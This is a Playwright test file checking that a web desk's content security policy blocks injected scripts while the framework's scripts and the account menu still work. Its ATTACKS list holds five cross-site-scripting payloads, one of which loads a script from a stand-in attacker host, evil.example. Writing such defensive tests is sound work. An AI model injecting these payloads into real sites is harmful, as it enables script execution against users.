"""What the desk's content security policy stops, and what goes on working under it."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from papg.testing import cast
from provision.served import Served
from tests.journeys.browser import Person, chromium

REFUSED = "Content Security Policy"
ATTACKS = (
    "document.body.appendChild(Object.assign(document.createElement('script'), {textContent: 'window.hit = 1'}))",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
    "$('body').append('<script>window.hit = 1</script>')",
    "$('<a href=\"#\" onclick=\"window.hit = 1; return false;\">x</a>').appendTo('body')[0].click()",
    "document.body.appendChild(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
)


@pytest.fixture
def secretary(server: Served) -> Iterator[Person]:
    with chromium() as browser:
        person = Person(browser, server.url, cast.SECRETARY)
        person.settle()
        yield person
        person.leave()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_script_that_came_in_with_a_text_does_not_run(attack: str, secretary: Person) -> None:
    assert secretary.troubles == []
    secretary.page.evaluate(f"() => {{ {attack}; }}")
    assert is_refused(secretary)
    assert secretary.page.evaluate("window.hit") is None


def is_refused(person: Person) -> bool:
    """Does the browser say within ten seconds that it refused something? A busy machine takes its time."""
    for _each in range(50):
        person.page.wait_for_timeout(200)
        if any(REFUSED in trouble for trouble in person.troubles):
            return True
    return False


def test_the_scripts_of_the_framework_run(secretary: Person) -> None:
    secretary.page.evaluate("frappe.dom.eval('window.ran = 1')")
    assert secretary.page.evaluate("window.ran") == 1
    assert secretary.troubles == []


def test_the_menu_of_the_account_works(secretary: Person) -> None:
    menu = secretary.page.locator(".dropdown-navbar-user")
    menu.locator("[data-toggle='dropdown']").click()
    menu.get_by_text("Toggle Theme").click()
    expect(secretary.dialog()).to_be_visible()
    secretary.page.keyboard.press("Escape")
    expect(secretary.page.locator(".modal.show")).to_have_count(0)
    menu.locator("[data-toggle='dropdown']").click()
    menu.get_by_text("Log out", exact=True).click()
    secretary.page.wait_for_url("**/login**")
